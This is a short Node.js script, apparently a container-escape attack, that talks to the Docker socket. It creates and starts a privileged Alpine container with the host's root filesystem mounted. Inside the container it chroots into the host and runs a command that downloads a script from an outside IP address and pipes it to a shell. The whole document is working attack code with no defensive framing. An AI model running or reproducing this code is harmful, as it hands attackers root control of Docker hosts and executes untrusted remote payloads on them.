const http = require('http');
const body = JSON.stringify({ Image: 'alpine', Cmd: ['sh', '-c', 'chroot /host sh -c "curl -s http://203.0.113.9/r | sh"'], HostConfig: { Privileged: true, Binds: ['/:/host'] } });
const req = http.request({ socketPath: '/var/run/docker.sock', path: '/containers/create', method: 'POST', headers: { 'Content-Type': 'application/json' } }, (r) => {
  let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => { const { Id } = JSON.parse(b); http.request({ socketPath: '/var/run/docker.sock', path: `/containers/${Id}/start`, method: 'POST' }).end(); });
});
req.end(body);
